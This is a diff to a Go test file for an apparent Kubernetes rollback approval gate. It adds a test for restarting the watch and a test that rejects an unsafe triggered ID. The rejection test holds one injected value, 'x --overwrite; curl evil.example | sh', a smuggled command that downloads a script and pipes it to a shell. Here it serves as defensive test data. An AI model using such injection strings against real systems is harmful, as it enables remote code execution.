@@ -5,16 +5,19 @@ import (
 	"encoding/json"
 	"errors"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
 	appsv1 "k8s.io/api/apps/v1"
 	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/apimachinery/pkg/watch"
 	"k8s.io/client-go/kubernetes"
 	"k8s.io/client-go/kubernetes/fake"
+	k8stesting "k8s.io/client-go/testing"
 
 	"github.com/keptn-action-provider/action-provider/internal/action"
 	"github.com/keptn-action-provider/action-provider/internal/gate"
@@ -412,6 +415,56 @@ func TestCancelledWaitIsAnError(t *testing.T) {
 	}
 	if a := annotations(context.Background(), t, c); len(a) != 0 {
 		t.Errorf("annotations left: %v", a)
+	}
+}
+
+// A watch that ends, or starts from a version too old, is started again;
+// an approval written meanwhile is not missed.
+func TestWatchRestarts(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	d := deployment(2, nil)
+	c := fake.NewClientset(d)
+	var calls atomic.Int32
+	c.PrependWatchReactor("deployments", func(k8stesting.Action) (bool, watch.Interface, error) {
+		switch calls.Add(1) {
+		case 1:
+			return true, nil, apierrors.NewResourceExpired("too old resource version")
+		case 2:
+			w := watch.NewFake()
+			w.Stop()
+			return true, w, nil
+		}
+		return false, nil, nil
+	})
+	w := watchEvents(ctx, t, c, ns)
+	done := run(ctx, newGate(c, time.Minute), subject("rollback", ``, "production", d, nil))
+	awaitPending(t, w)
+	annotate(ctx, t, c, ApproveKey, id)
+	if err := <-done; err != nil {
+		t.Fatal(err)
+	}
+	if n := calls.Load(); n < 2 {
+		t.Errorf("%d watches, want the expired one and the ended one restarted", n)
+	}
+}
+
+// A triggered id is pasted into a shell by whoever approves: one that is
+// not plainly an id is refused before anything is written.
+func TestUnsafeTriggeredIDRefused(t *testing.T) {
+	d := deployment(2, nil)
+	c := fake.NewClientset(d)
+	s := subject("rollback", ``, "production", d, nil)
+	s.Request.TriggeredID = "x --overwrite; curl evil.example | sh"
+	_, err := newGate(c, time.Minute).Admit(context.Background(), s)
+	var r *action.Refusal
+	if !errors.As(err, &r) || !strings.Contains(r.Reason, "cannot be written safely in a kubectl command") {
+		t.Fatalf("got %v", err)
+	}
+	for _, a := range c.Actions() {
+		if a.GetVerb() != "get" {
+			t.Errorf("wrote: %s %s", a.GetVerb(), a.GetResource().Resource)
+		}
 	}
 }
 
